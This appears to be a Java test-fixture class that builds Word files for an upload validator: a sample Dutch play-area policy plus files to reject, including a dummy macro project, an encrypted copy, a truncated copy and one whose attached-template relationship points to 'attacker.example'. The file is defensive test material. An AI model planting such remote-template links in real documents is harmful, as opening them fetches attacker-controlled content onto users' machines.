package nl.rugzak.platform.participation.consultations;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.util.function.Consumer;

import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.util.Units;
import org.apache.poi.xwpf.usermodel.Document;
import org.apache.poi.xwpf.usermodel.XWPFAbstractNum;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFNumbering;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.apache.poi.xwpf.usermodel.XWPFStyle;
import org.apache.poi.xwpf.usermodel.XWPFStyles;
import org.apache.poi.xwpf.usermodel.XWPFTable;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTAbstractNum;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTLvl;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STNumberFormat;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;

/** Real Word files made with POI for the tests: a policy document, and the bad ones uploads must refuse. */
public final class DocxFixtures {

    private DocxFixtures() {
    }

    /** A short play-area policy: headings, paragraphs, a bulleted list, a table, a picture and a comment. */
    public static byte[] policy() {
        return docx(doc -> {
            heading(doc, 1, "Speelruimtebeleid 2027");
            doc.createParagraph().createRun().setText("Kinderen spelen het liefst dicht bij huis.");
            heading(doc, 2, "Wat willen we bereiken");
            doc.createParagraph().createRun().setText("Elk kind heeft binnen 300 meter een speelplek.");
            BigInteger list = bulletList(doc);
            for (String item : new String[] {"meer gras", "meer schaduw"}) {
                XWPFParagraph paragraph = doc.createParagraph();
                paragraph.setNumID(list);
                paragraph.createRun().setText(item);
            }
            XWPFTable table = doc.createTable(2, 2);
            table.getRow(0).getCell(0).setText("Jaar");
            table.getRow(0).getCell(1).setText("Budget");
            table.getRow(1).getCell(0).setText("2027");
            table.getRow(1).getCell(1).setText("450.000");
            XWPFParagraph picture = doc.createParagraph();
            try {
                picture.createRun().addPicture(new ByteArrayInputStream(TINY_PNG), Document.PICTURE_TYPE_PNG, "x.png",
                        Units.toEMU(10), Units.toEMU(10));
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
            doc.createParagraph().createRun().setText("- Dit is geen lijst maar een gewone zin.");
            var comments = doc.createComments();
            var comment = comments.createComment(BigInteger.ONE);
            comment.setAuthor("Ambtenaar");
            comment.createParagraph().createRun().setText("Nog checken met financiën");
            doc.createParagraph().createHyperlinkRun("https://www.example.org/speelruimte").setText("Meer informatie");
        });
    }

    public static byte[] empty() {
        return docx(doc -> doc.createParagraph());
    }

    /** The policy with a macro project inside (what a .docm has). */
    public static byte[] withMacros() {
        return repackaged(policy(), pkg -> {
            try {
                PackagePart part = pkg.createPart(PackagingURIHelper.createPartName("/word/vbaProject.bin"),
                        "application/vnd.ms-office.vbaProject");
                try (OutputStream out = part.getOutputStream()) {
                    out.write(new byte[] {1, 2, 3, 4});
                }
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        });
    }

    /** The policy with a remote template: opening it would fetch a file from someone else's server. */
    public static byte[] withExternalTemplate() {
        return docx(doc -> {
            doc.createParagraph().createRun().setText("Een document met een extern sjabloon.");
            doc.getPackagePart().addExternalRelationship("https://attacker.example/sjabloon.dotm",
                    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate");
        });
    }

    /** The policy encrypted with a password, as Word saves it (an OLE2 container). */
    public static byte[] encrypted() {
        try (POIFSFileSystem fs = new POIFSFileSystem(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
            Encryptor encryptor = info.getEncryptor();
            encryptor.confirmPassword("geheim");
            try (OPCPackage pkg = OPCPackage.open(new ByteArrayInputStream(policy()));
                 OutputStream data = encryptor.getDataStream(fs)) {
                pkg.save(data);
            }
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** A .docx cut off halfway, as an interrupted download leaves it. */
    public static byte[] truncated() {
        byte[] whole = policy();
        return java.util.Arrays.copyOf(whole, whole.length / 2);
    }

    public static byte[] docx(Consumer<XWPFDocument> content) {
        try (XWPFDocument doc = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            XWPFStyles styles = doc.createStyles();
            for (int level = 1; level <= 2; level++) {
                CTStyle style = CTStyle.Factory.newInstance();
                style.setStyleId("Kop" + level);
                style.setType(STStyleType.PARAGRAPH);
                style.addNewName().setVal("heading " + level);
                styles.addStyle(new XWPFStyle(style));
            }
            content.accept(doc);
            doc.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] repackaged(byte[] docx, Consumer<OPCPackage> change) {
        try (OPCPackage pkg = OPCPackage.open(new ByteArrayInputStream(docx)); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            change.accept(pkg);
            pkg.save(out);
            return out.toByteArray();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static void heading(XWPFDocument doc, int level, String text) {
        XWPFParagraph paragraph = doc.createParagraph();
        paragraph.setStyle("Kop" + level);
        paragraph.createRun().setText(text);
    }

    private static BigInteger bulletList(XWPFDocument doc) {
        CTAbstractNum abstractNum = CTAbstractNum.Factory.newInstance();
        abstractNum.setAbstractNumId(BigInteger.ZERO);
        CTLvl level = abstractNum.addNewLvl();
        level.setIlvl(BigInteger.ZERO);
        level.addNewNumFmt().setVal(STNumberFormat.BULLET);
        level.addNewLvlText().setVal("•");
        XWPFNumbering numbering = doc.createNumbering();
        BigInteger abstractId = numbering.addAbstractNum(new XWPFAbstractNum(abstractNum));
        return numbering.addNum(abstractId);
    }

    /** A 1×1 PNG. */
    static final byte[] TINY_PNG = java.util.Base64.getDecoder().decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
}
